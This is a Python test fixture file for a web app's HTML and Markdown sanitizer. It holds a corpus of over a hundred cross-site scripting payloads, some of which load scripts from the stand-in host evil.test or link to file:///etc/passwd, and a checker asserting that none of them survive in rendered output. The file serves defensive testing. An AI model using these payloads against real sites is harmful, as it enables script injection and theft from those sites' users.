"""What attackers write, and the checks that nothing of it lives on the page. Everything is judged by parsing, as a browser would."""

import re

import pytest
from bs4 import BeautifulSoup

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img srcset='//evil.test/x 1x'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><maction actiontype='statusline#http://evil.test' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<a href=# onmouseover='alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<div onpointerenter=alert(1)>x</div>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import'//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test)}</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<link rel=prefetch href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.test/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "'\"><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" data-act="delete" x="',
    "`onmouseover=alert(1)`",
    "</div></article><script>alert(1)</script>",
    "</blockquote></div><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:http://evil.test/1)",
    "[x](\x01javascript:alert(1))",
    '[x](http://evil.test/" onmouseover="alert(1))',
    "[x](http://evil.test 'a\" onmouseover=\"alert(1)')",
    "[x](<http://evil.test/><img src=x onerror=alert(1)>>)",
    "[<img src=x onerror=alert(1)>](http://a.test)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '!["><script>alert(1)</script>](http://evil.test/x)',
    '![x](http://evil.test/x"onerror="alert(1))',
    "![x][1]\n\n[1]: http://evil.test/track.gif",
    "<javascript:alert(1)>",
    '<http://evil.test/"onmouseover=alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '|a|\n|:-" onmouseover="alert(1)|\n|<img src=x onerror=alert(1)>|',
    "|a|b|\n|:-:|-:|\n|<script>alert(1)</script>|x|",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. <svg onload=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "[1]<script>alert(1)</script>[1]",
    "\u202e<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "$$\\href{javascript:alert(1)}{x}$$",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
]

DEAD = set("script iframe object embed svg style link meta base img video audio source input select textarea template noscript marquee body html frame".split())
FORMULA = set(
    "mrow mi mo mn ms mtext mspace mfrac msqrt mroot msup msub msubsup munder mover munderover mtable mtr mtd mstyle mpadded mphantom menclose".split()
)
"""What may stand in a formula; of these only mtext could hold HTML, and a formula's holds none."""
LOADS = ("src", "srcset", "srcdoc", "formaction", "poster", "background", "xlink:href", "data", "ping")
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")


def harmless(html):
    """The parsed page, after a look at every element of it."""
    page = BeautifulSoup(html, "html.parser")
    for icon in page.find_all("svg", class_="drawn"):  # our own, from one file of ours
        assert set(icon.attrs) <= {"class", "aria-hidden"}, icon
        assert [(u.name, tuple(u.attrs), u["href"].partition("#")[0]) for u in icon.find_all(True)] == [("use", ("href",), "/static/icons.svg")], icon
        icon.decompose()
    for kept in page.find_all("template", class_="source"):  # ours, shown by a click: what is in it is looked at like everything else
        kept.name = "div"
    for picture in page.select("a.page > img"):  # a page of a document, from our own route
        assert set(picture.attrs) == {"src", "alt", "loading", "decoding", "width", "height"}, picture
        assert re.match(r"/files/[^?]*/pages/[0-9]+[.]png[?]", picture["src"]), picture
        assert re.fullmatch(r"Page [0-9]+ with the passage marked", picture["alt"]), picture
        picture.decompose()
    for choice in page.select("form[action='/language']"):  # the language, which holds nothing that anybody wrote
        assert set(choice.attrs) == {"method", "action"}, choice
        assert [(tag.name, {*tag.attrs} - {"selected"}) for tag in choice.find_all(True)] == [("select", {"name", "aria-label"}), *[("option", {"value"})] * 2]
        choice.decompose()
    for math in page.find_all("math"):
        assert set(math.attrs) <= {"display"}, math
        assert {inside.name for inside in math.find_all(True)} <= FORMULA, math
        assert all(not inside.find_all(True) for inside in math.find_all("mtext")), math
    for tag in page.find_all(True):
        assert tag.name not in DEAD, tag
        for name, value in tag.attrs.items():
            text = re.sub(r"[\x00-\x20]", "", value if isinstance(value, str) else " ".join(value)).lower()  # as browsers read an address
            assert not name.startswith("on"), tag
            assert name not in LOADS, tag
            if name == "href" and (scheme := SCHEME.match(text)):
                assert scheme[1] in SAFE_SCHEMES, tag
            if name == "action":
                assert value == "/logout", tag
            if name == "style":
                assert re.fullmatch(r"text-align:(left|right|center)", text), tag
    return page


def skeleton(html):
    """Elements and the names of their attributes, in order: what a text may never change."""
    return [(tag.name, tuple(tag.attrs)) for tag in BeautifulSoup(html, "html.parser").find_all(True)]


@pytest.fixture(scope="session")
def check_harmless():
    return harmless


@pytest.fixture(scope="session")
def shape_of():
    return skeleton


@pytest.fixture(scope="session")
def corpus():
    return XSS
